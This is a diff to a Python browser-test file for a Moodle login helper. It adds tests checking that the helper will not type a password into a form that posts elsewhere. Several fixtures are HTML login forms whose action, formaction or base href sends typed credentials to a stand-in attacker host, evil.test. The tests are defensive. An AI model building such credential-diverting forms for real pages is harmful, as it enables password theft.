@@ -164,7 +164,7 @@ def test_what_moodle_lays_over_a_page(show: Show, said: str, target: str, presse
     assert tab.evaluate("() => M.pressed") == pressed
 
 
-LOGIN = f"""{IDLE}<form onsubmit="history.pushState(0, '', '?loginredirect=1');
+LOGIN = f"""{IDLE}<form method=post onsubmit="history.pushState(0, '', '?loginredirect=1');
     document.querySelector('[role=alert]').hidden = false; return false">
   <input id=username><input id=password type=password %s><button id=loginbtn>Log in</button></form>
   <div role=alert class="alert-danger" hidden>Invalid login, please try again</div>"""
@@ -174,6 +174,32 @@ def test_a_login_that_is_refused(show: Show) -> None:
     with says("expected ann to be logged in, seen the log-in page again: Invalid login, please try again") as refused:
         LoginPage(show(LOGIN % "", LoginPage.path), MOODLE).log_in("ann", "the-password-of-ann")
     assert "the-password-of-ann" not in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    ("form", "button", "told"),
+    [
+        ("method=post action=https://evil.test/login/", "", "post to https://evil.test/login/"),
+        ("method=post", "formaction=https://evil.test/", "post to https://evil.test/"),
+        ("method=post", "formmethod=get", f"get to {SITE}/"),
+        ("", "", f"get to {SITE}/"),
+        ("method=post action=//evil.test/", "", "post to https://evil.test/"),
+    ],
+)
+def test_a_log_in_form_that_sends_what_is_typed_elsewhere(show: Show, form: str, button: str, told: str) -> None:
+    page = f"{IDLE}<form {form}><input name=action><input name=getAttribute><input id=username>"
+    page += f"<input id=password type=password><button id=loginbtn {button}>Log in</button></form>"
+    tab = show(page, LoginPage.path)
+    with says(f"expected the log-in form to post to {SITE}, seen it {told}"):
+        LoginPage(tab, MOODLE).log_in("ann", "secret-of-ann")
+    assert tab.locator("#password").input_value() == ""
+
+
+def test_the_base_of_a_page_leads_no_password_elsewhere(show: Show) -> None:
+    page = f"<base href=https://evil.test/>{IDLE}<form method=post action=login/index.php><input id=username>"
+    tab = show(f"{page}<input id=password><button id=loginbtn>Log in</button></form>", LoginPage.path)
+    with says("seen it post to https://evil.test/login/index.php"):
+        LoginPage(tab, MOODLE).log_in("ann", "secret-of-ann")
 
 
 def test_a_password_field_that_loses_its_text(show: Show) -> None:
